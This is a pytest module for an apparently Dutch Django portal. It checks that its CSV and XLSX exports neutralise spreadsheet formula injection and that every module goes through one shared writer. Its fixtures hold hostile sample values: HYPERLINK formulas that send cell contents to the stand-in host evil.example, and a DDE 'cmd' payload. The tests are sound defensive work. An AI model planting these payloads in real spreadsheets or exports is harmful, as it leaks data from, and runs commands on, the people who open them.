"""Exports that attack whoever opens them (issue 21, part 3): every CSV and XLSX the
portal writes, back office and public, keeps a hostile text from becoming a formula,
and every CSV goes through the one writer."""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.utils import timezone

from accounts.models import Role
from accounts.tests.factories import signed_in_colleague
from common.csv import FORMULA_PREFIXES
from common.spreadsheet import XLSX_CONTENT_TYPE
from procurement.tests.factories import SupplierFactory, TenderFactory
from surveys.models import Answer, Question, Response
from surveys.tests.factories import QuestionFactory, SurveyFactory

pytestmark = pytest.mark.django_db

HOSTILE_SUPPLIER = '=HYPERLINK("http://evil.example/?"&A1,"Klik") BV'
HOSTILE_ANSWER = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'
OTHERS = ["+31 6 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def csv_cells(response) -> list[str]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert dangerous == []


def xlsx_cells(response) -> list[openpyxl.cell.Cell]:
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_xlsx_has_no_formula(cells, hostile: str) -> None:
    assert all(cell.data_type != "f" for cell in cells)
    # The hostile text is there as it was written, as a string that stays one when edited.
    [cell] = [cell for cell in cells if cell.value == hostile]
    assert cell.data_type == "s"
    assert cell.quotePrefix


@pytest.fixture
def hostile_supplier(db):
    return SupplierFactory(name=HOSTILE_SUPPLIER, city=OTHERS[2], codes=["45233000"])


@pytest.fixture
def hostile_survey(db):
    survey = SurveyFactory(opens_at=timezone.now() - timedelta(days=5))
    remark = QuestionFactory(survey=survey, code="opmerking", kind=Question.Kind.TEXT)
    # Enough answers in one group that the export's minimum group size keeps them all.
    padding = ["Prima"] * max(0, settings.SURVEY_MIN_GROUP_SIZE - 1 - len(OTHERS))
    for text in [HOSTILE_ANSWER, *OTHERS, *padding]:
        response = Response.objects.create(survey=survey, submitted_on=timezone.localdate())
        Answer.objects.create(response=response, question=remark, value_text=text)
    return survey


def _export(client, changelist: str, action: str, obj):
    return client.post(changelist, {"action": action, ACTION_CHECKBOX_NAME: [str(obj.pk)]})


def test_officers_supplier_export_has_no_live_formula(client, hostile_supplier):
    signed_in_colleague(client, Role.PROCUREMENT_OFFICER)
    changelist = "/beheer/procurement/supplier/"
    cells = csv_cells(_export(client, changelist, "export_csv", hostile_supplier))
    assert f"'{HOSTILE_SUPPLIER}" in cells
    assert_no_formula(cells)

    response = _export(client, changelist, "export_xlsx", hostile_supplier)
    assert 'filename="leveranciers.xlsx"' in response["Content-Disposition"]
    cells = xlsx_cells(response)
    assert_xlsx_has_no_formula(cells, HOSTILE_SUPPLIER)
    assert [c.value for c in cells[:2]] == ["kvk", "name"]
    assert hostile_supplier.kvk_number in [c.value for c in cells]


def test_researchers_answers_export_has_no_live_formula(client, hostile_survey):
    signed_in_colleague(client, Role.RESEARCHER)
    changelist = "/beheer/surveys/survey/"
    cells = csv_cells(_export(client, changelist, "export_answers", hostile_survey))
    assert f"'{HOSTILE_ANSWER}" in cells
    assert_no_formula(cells)

    response = _export(client, changelist, "export_answers_xlsx", hostile_survey)
    cells = xlsx_cells(response)
    assert_xlsx_has_no_formula(cells, HOSTILE_ANSWER)
    # Kept as written (XML reads a carriage return back as a line feed), each a string.
    written = [text.replace("\r", "\n") for text in OTHERS]
    assert sorted(c.value for c in cells if c.value in written) == sorted(written)
    assert [c.data_type for c in cells if c.value in written] == ["s"] * len(OTHERS)


def test_public_tender_calendar_csv_has_no_live_formula(client):
    TenderFactory(title=HOSTILE_SUPPLIER, department=OTHERS[1], codes=["45233000"])
    cells = csv_cells(client.get("/inkoop/kalender.csv"))
    assert f"'{HOSTILE_SUPPLIER}" in cells
    assert_no_formula(cells)


def test_xlsx_leaves_out_characters_a_workbook_cannot_hold(client):
    signed_in_colleague(client, Role.PROCUREMENT_OFFICER)
    # PostgreSQL holds no NUL in text; other control characters it does.
    supplier = SupplierFactory(name="Vreemd\x01\x07\x1b BV", codes=["45233000"])
    response = _export(client, "/beheer/procurement/supplier/", "export_xlsx", supplier)
    assert response.status_code == 200
    assert "Vreemd BV" in [c.value for c in xlsx_cells(response)]


# --- The guard: one writer for every CSV -------------------------------------------

WRITER = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|\bfrom\s+csv\s+import\b")
ONE_WRITER = Path(settings.BASE_DIR, "common", "csv.py")


def _our_modules() -> list[Path]:
    root = Path(settings.BASE_DIR)
    skip = {".venv", "node_modules", "staticfiles", "media", ".git"}
    return [
        path
        for path in root.rglob("*.py")
        if not skip.intersection(path.relative_to(root).parts)
        and "tests" not in path.relative_to(root).parts
        and path != ONE_WRITER
    ]


def test_no_module_writes_csv_without_the_one_writer():
    """A new download that builds its own ``csv.writer`` would skip the neutralisation:
    only common/csv.py may make one (tests read CSV, they write none)."""
    modules = _our_modules()
    assert len(modules) > 100  # the scan really looks at the portal's code
    offenders = [
        str(path.relative_to(settings.BASE_DIR))
        for path in modules
        if WRITER.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


SPREADSHEET = re.compile(r"^\s*(import|from)\s+(openpyxl|xlsxwriter)\b", re.M)
ONE_SPREADSHEET_WRITER = Path(settings.BASE_DIR, "common", "spreadsheet.py")


def test_no_module_writes_xlsx_without_the_one_writer():
    offenders = [
        str(path.relative_to(settings.BASE_DIR))
        for path in _our_modules()
        if path != ONE_SPREADSHEET_WRITER and SPREADSHEET.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_guard_recognises_a_csv_writer():
    for source in [
        "w = csv.writer(response)",
        "w = csv.DictWriter(out, fieldnames=f)",
        "from csv import writer",
    ]:
        assert WRITER.search(source)
    assert not WRITER.search("from common.csv import spreadsheet_safe_writer")
    assert not WRITER.search("rows = csv.reader(io.StringIO(body))")
